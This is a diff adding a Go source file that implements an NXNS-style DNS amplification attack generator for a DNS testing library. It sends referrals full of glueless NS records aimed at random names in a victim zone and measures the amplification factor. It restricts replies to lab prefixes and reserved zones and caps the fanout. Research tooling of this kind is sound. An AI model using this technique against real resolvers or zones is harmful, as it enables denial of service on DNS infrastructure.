@@ -0,0 +1,223 @@
+// Copyright 2024 TochusC AOSP Lab. All rights reserved.
+
+// nxns.go 文件定义了 NXNSGenerator NXNS 式放大攻击生成器。
+// 其对攻击区域中的名称回复包含大量 NS 记录的转介，这些 NS 记录指向受害区域中不存在的随机名称且不带粘合记录，
+// 解析器为查找权威服务器的地址将向受害区域的权威服务器发出大量查询（NXNSAttack）。
+// 若受害区域也委派至本服务器，生成器会统计受害区域收到的查询，以此计算放大倍数。
+//
+// 为避免误用，生成器设有以下安全限制：
+//   - 必须配置实验网络前缀，且前缀不能宽于 /8（IPv4）或 /32（IPv6），
+//     仅向位于其中的解析器回复转介，其余客户端得到 REFUSED 回复；
+//   - 受害区域必须位于实验区域（默认为 RFC 2606 保留的 test、example、invalid 及 localhost）之内；
+//   - 单个转介中的 NS 记录数量不超过 MaxNXNSFanout。
+
+package xdns
+
+import (
+	"fmt"
+	"net"
+	"strings"
+	"sync/atomic"
+
+	"github.com/tochusc/xdns/dns"
+)
+
+// MaxNXNSFanout 为单个转介中 NS 记录数量的上限
+const MaxNXNSFanout = 512
+
+// DefaultNXNSLabZones 为默认的实验区域，即 RFC 2606 保留的顶级域
+var DefaultNXNSLabZones = []string{"test", "example", "invalid", "localhost"}
+
+// NXNSConfig 记录 NXNS 式放大攻击生成器的配置
+type NXNSConfig struct {
+	// 攻击区域名称，其中的名称均得到转介回复
+	Zone string
+	// 受害区域，转介中的 NS 记录轮流指向其中的随机名称
+	Victims []string
+	// 单个转介中的 NS 记录数量，需位于 [1, MaxNXNSFanout] 之间
+	Fanout int
+	// 实验网络前缀，仅向位于其中的解析器回复转介，不能为空
+	LabPrefixes []*net.IPNet
+	// 实验区域，受害区域必须位于其中，为空时为 DefaultNXNSLabZones
+	LabZones []string
+	// 记录的 TTL
+	TTL uint32
+}
+
+// NXNSStats 记录 NXNS 式放大攻击生成器的统计信息
+type NXNSStats struct {
+	// 已回复的转介数量
+	Referrals uint64 `json:"referrals"`
+	// 转介中 NS 记录的总数
+	NameServers uint64 `json:"name_servers"`
+	// 受害区域收到的查询数量，仅在受害区域也委派至本服务器时有效
+	VictimQueries uint64 `json:"victim_queries"`
+	// 因位于实验网络之外而被拒绝的查询数量
+	Refused uint64 `json:"refused"`
+}
+
+// Amplification 返回放大倍数，即受害区域收到的查询数量与转介数量之比
+func (s NXNSStats) Amplification() float64 {
+	if s.Referrals == 0 {
+		return 0
+	}
+	return float64(s.VictimQueries) / float64(s.Referrals)
+}
+
+// NXNSGenerator NXNS 式放大攻击生成器：为攻击区域中的名称生成指向受害区域的转介。
+type NXNSGenerator struct {
+	Config NXNSConfig
+
+	seq   uint64
+	stats NXNSStats
+}
+
+// NewNXNSGenerator 根据配置创建一个新的 NXNS 式放大攻击生成器
+// 其接受参数为：
+//   - conf NXNSConfig，生成器配置
+//
+// 返回值为：
+//   - *NXNSGenerator，创建的生成器
+//   - error，配置违反文件注释所述的安全限制时返回错误
+func NewNXNSGenerator(conf NXNSConfig) (*NXNSGenerator, error) {
+	if len(conf.LabPrefixes) == 0 {
+		return nil, fmt.Errorf("function NewNXNSGenerator failed: no lab prefix configured")
+	}
+	for _, prefix := range conf.LabPrefixes {
+		ones, bits := prefix.Mask.Size()
+		if (bits == 32 && ones < 8) || (bits == 128 && ones < 32) {
+			return nil, fmt.Errorf("function NewNXNSGenerator failed: lab prefix %s is too broad", prefix)
+		}
+	}
+	if conf.Fanout < 1 || conf.Fanout > MaxNXNSFanout {
+		return nil, fmt.Errorf("function NewNXNSGenerator failed: fanout %d out of range [1, %d]", conf.Fanout, MaxNXNSFanout)
+	}
+	if len(conf.Victims) == 0 {
+		return nil, fmt.Errorf("function NewNXNSGenerator failed: no victim configured")
+	}
+	if len(conf.LabZones) == 0 {
+		conf.LabZones = DefaultNXNSLabZones
+	}
+
+	conf.Zone = dns.CanonicalizeDomainName(&conf.Zone)
+	victims := make([]string, 0, len(conf.Victims))
+	for _, victim := range conf.Victims {
+		victim = dns.CanonicalizeDomainName(&victim)
+		inLab := false
+		for _, zone := range conf.LabZones {
+			inLab = inLab || dns.IsSubDomain(victim, zone)
+		}
+		if !inLab || victim == "." {
+			return nil, fmt.Errorf("function NewNXNSGenerator failed: victim %s is outside the lab zones", victim)
+		}
+		victims = append(victims, victim)
+	}
+	conf.Victims = victims
+	return &NXNSGenerator{Config: conf}, nil
+}
+
+// Allowed 检查客户端是否位于实验网络之内
+func (g *NXNSGenerator) Allowed(clientIP net.IP) bool {
+	if clientIP == nil {
+		return false
+	}
+	for _, prefix := range g.Config.LabPrefixes {
+		if prefix.Contains(clientIP) {
+			return true
+		}
+	}
+	return false
+}
+
+// IsVictim 检查名称是否位于受害区域之内
+func (g *NXNSGenerator) IsVictim(qName string) bool {
+	for _, victim := range g.Config.Victims {
+		if dns.IsSubDomain(qName, victim) {
+			return true
+		}
+	}
+	return false
+}
+
+// Build 为查询构建指向受害区域的转介回复
+// 其接受参数为：
+//   - qry dns.DNSMessage，查询信息
+//   - fanout int，转介中的 NS 记录数量，超出 MaxNXNSFanout 时取 MaxNXNSFanout
+//
+// 返回值为：
+//   - dns.DNSMessage，转介回复，被查询名称被委派至受害区域中的随机名称，且不带粘合记录
+func (g *NXNSGenerator) Build(qry dns.DNSMessage, fanout int) dns.DNSMessage {
+	if fanout > MaxNXNSFanout {
+		fanout = MaxNXNSFanout
+	}
+	resp := InitNXDOMAIN(qry)
+	resp.Header.RCode = dns.DNSResponseCodeNoErr
+	// 转介回复不是权威回复
+	resp.Header.AA = false
+
+	// 每个转介使用不同的名称，使解析器无法借助否定缓存减少查询
+	owner := strings.ToLower(qry.Question[0].Name.DomainName)
+	seq := atomic.AddUint64(&g.seq, 1)
+	for i := 0; i < fanout; i++ {
+		victim := g.Config.Victims[i%len(g.Config.Victims)]
+		ns := fmt.Sprintf("nx%d-%d.%s", seq, i, victim)
+		resp.Authority = append(resp.Authority, g.newRR(owner, &dns.DNSRDATANS{NSDNAME: ns}))
+	}
+	atomic.AddUint64(&g.stats.Referrals, 1)
+	atomic.AddUint64(&g.stats.NameServers, uint64(fanout))
+	FixCount(&resp)
+	return resp
+}
+
+// Stats 返回生成器的统计信息
+func (g *NXNSGenerator) Stats() NXNSStats {
+	return NXNSStats{
+		Referrals:     atomic.LoadUint64(&g.stats.Referrals),
+		NameServers:   atomic.LoadUint64(&g.stats.NameServers),
+		VictimQueries: atomic.LoadUint64(&g.stats.VictimQueries),
+		Refused:       atomic.LoadUint64(&g.stats.Refused),
+	}
+}
+
+// newRR 生成转介回复中的资源记录
+func (g *NXNSGenerator) newRR(owner string, rdata dns.DNSRRRDATA) dns.DNSResourceRecord {
+	return dns.DNSResourceRecord{
+		Name:  *dns.NewDNSName(owner),
+		Type:  rdata.Type(),
+		Class: dns.DNSClassIN,
+		TTL:   g.Config.TTL,
+		RDLen: 0,
+		RData: rdata,
+	}
+}
+
+// NXNSResponser 是一个使用 NXNSGenerator 回复放大转介的回复器实现。
+// 攻击区域的顶点及区域以外的名称将得到 NXDOMAIN 回复，受害区域中的名称同样得到 NXDOMAIN 回复并被计数。
+type NXNSResponser struct {
+	Generator *NXNSGenerator
+}
+
+// Response 根据 DNS 查询信息生成 DNS 回复信息。
+func (r *NXNSResponser) Response(connInfo ConnectionInfo) ([]byte, error) {
+	qry, err := ParseQuery(connInfo)
+	if err != nil {
+		return []byte{}, err
+	}
+
+	g := r.Generator
+	qName := qry.Question[0].Name.DomainName
+	resp := InitNXDOMAIN(qry)
+	switch {
+	case !g.Allowed(connInfo.ClientIP()):
+		resp.Header.RCode = dns.DNSResponseCodeRefused
+		resp.Header.AA = false
+		atomic.AddUint64(&g.stats.Refused, 1)
+	case g.IsVictim(qName):
+		atomic.AddUint64(&g.stats.VictimQueries, 1)
+		serverVars.Add("nxns_victim_queries", 1)
+	case dns.IsSubDomain(qName, g.Config.Zone) && !dns.EqualDomainName(qName, g.Config.Zone):
+		resp = g.Build(qry, g.Config.Fanout)
+	}
+	FixCount(&resp)
+	return resp.Encode(), nil
+}